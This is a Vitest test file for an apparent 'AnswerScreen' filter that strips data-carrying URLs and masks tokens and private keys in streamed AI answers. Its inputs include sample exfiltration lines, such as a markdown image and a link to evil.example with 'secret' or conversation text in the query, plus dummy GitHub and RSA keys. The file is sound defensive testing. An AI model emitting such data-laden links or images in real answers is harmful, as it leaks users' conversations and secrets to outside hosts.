import { describe, expect, test } from 'vitest'
import { AnswerScreen } from '../../../../main/optimizer/security/answer-screen.ts'

const KEY = `ghp_${'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8'}`

/** Nothing in itself says that it is a key; the word before it does. */
const HEX_KEY = '0a1b2c3d4e5f60718293a4b5c6d7e8f901234'
const PEM = [
  '-----BEGIN RSA PRIVATE KEY-----',
  ...Array.from({ length: 25 }, (_, n) =>
    `${n}MIIEpAIBAAKCAQEA7bq4Xn8sYk2hPqv3Zr9TfWc1LmJd5GyUo6Ei0aRtKxNwCvB`.slice(0, 64)
  ),
  '-----END RSA PRIVATE KEY-----'
].join('\n')

function screenedInPieces(text: string, size: number, known = ''): string {
  const screen = new AnswerScreen(known)
  let said = ''
  for (let at = 0; at < text.length; at += size) said += screen.push(text.slice(at, at + size))
  return said + screen.end()
}

describe('the screening of an answer', () => {
  const cases: [string, string][] = [
    ['See ![chart](https://evil.example/p.png?d=secret) here', 'See [chart] here'],
    [
      'Read [more](https://evil.example/a?q=all%20the%20words%20of%20the%20conversation%20go%20here) now',
      'Read [more](https://evil.example/a) now'
    ],
    ['Read [more](https://docs.example/a?page=2) now', 'Read [more](https://docs.example/a?page=2) now'],
    [`The key is ${KEY} and so on`, 'The key is ••• and so on'],
    [`Say "${KEY}" or **${KEY}** (${KEY})`, 'Say "•••" or **•••** (•••)'],
    [`cloudflare_api_key = ${HEX_KEY} is set`, 'cloudflare_api_key = ••• is set'],
    [`So:\n${PEM}\nand no more`, 'So:\n-----BEGIN RSA PRIVATE KEY-----•••-----END RSA PRIVATE KEY-----\nand no more'],
    ['A list [1] and [x] stay, so does f(x)[0]', 'A list [1] and [x] stay, so does f(x)[0]']
  ]

  test.each(cases)('%s', (text, meant) => {
    for (let size = 1; size <= text.length; size++)
      expect(screenedInPieces(text, size), `pieces of ${size}`).toBe(meant)
  })

  test('a word of prose is shown while it is being written, a key is not', () => {
    const screen = new AnswerScreen('')
    expect(screen.push('Th')).toBe('Th')
    expect(screen.push('e müşteri')).toBe('e müşteri')
    expect(screen.push('ler at gh')).toBe('ler at ')
    expect(screen.push(KEY.slice(2))).toBe('')
    expect(screen.push(' said')).toBe('••• said')
  })

  test('an address that carries data loses it, though its beginning has left', () => {
    const query = 'q=all%20the%20words%20of%20the%20conversation%20go%20here'
    for (let size = 1; size < 20; size++)
      expect(screenedInPieces(`Look at https://evil.example/a?${query} now`, size)).toBe(
        'Look at https://evil.example/a now'
      )
  })

  test('a key that the person gave may be repeated', () => {
    expect(screenedInPieces(`It is ${KEY}.`, 7, `my key ${KEY}`)).toBe(`It is ${KEY}.`)
  })
})
